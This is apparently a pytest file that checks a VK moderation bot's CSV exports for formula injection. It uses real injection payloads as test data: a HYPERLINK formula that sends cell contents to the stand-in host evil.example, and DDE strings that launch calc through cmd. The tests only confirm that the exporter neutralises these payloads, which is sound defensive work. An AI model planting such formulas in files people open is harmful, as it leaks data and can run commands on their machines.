"""CSV injection: no cell modbot exports can run as a spreadsheet formula (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.cli import main
from bot.csv_export import SafeDictWriter, safe_cell
from bot.emulator import VKEmulator
from tests.conftest import G1, DaemonFactory, settle

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Жалоба")'


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "-",
        "+",
        "=",
        "@",
    ],
)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "обычный текст",
        "",
        " =1+1",
        "'=1",
        "a=1",
        "-1",
        "-42",
        "+7",
        "0.5",
        "-3,5",
        "1e5",
        0,
        -5,
        3.5,
        None,
        True,
    ],
)
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_writer_neutralises_every_cell() -> None:
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["a", "b"])
    w.writeheader()
    w.writerows([{"a": "=1+1", "b": "@x"}, {"a": "-1", "b": "+x"}])
    w.writerow({"a": "\tx", "b": "ok"})
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["a", "b"],
        ["'=1+1", "'@x"],
        ["-1", "'+x"],
        ["'\tx", "ok"],
    ]


async def test_exported_comment_cell_is_neutralised(
    vk_emu: VKEmulator, make_daemon: DaemonFactory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The comment comes in through the emulator, the daemon journals it, ``modbot decisions`` exports it."""
    db = tmp_path / "csv.db"
    daemon = await make_daemon(db=db)
    vk_emu.post_comment(G1, 5150, HYPERLINK)
    vk_emu.post_comment(G1, 5151, "-сколько можно ждать автобус?")
    await settle(daemon, judged=2)
    await daemon.stop()
    capsys.readouterr()
    assert main(["decisions", "--db", str(db), "--since", "1"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    texts = sorted(r["text"] for r in rows)
    assert texts == ["'" + "-сколько можно ждать автобус?", "'" + HYPERLINK], texts
    for r in rows:  # no exported cell is left that a spreadsheet would evaluate
        assert all(safe_cell(v) == v for v in r.values()), r


def test_blacklist_csv_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "bl.db"
    reason = "=cmd|' /C calc'!A0"
    assert main(["blacklist", "add", "77", "--db", str(db), "--reason", reason, "--by", "@admin"]) == 0
    capsys.readouterr()
    assert main(["blacklist", "list", "--db", str(db), "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["reason"] == "'" + reason and row["decided_by"] == "'@admin" and row["author_id"] == "77"
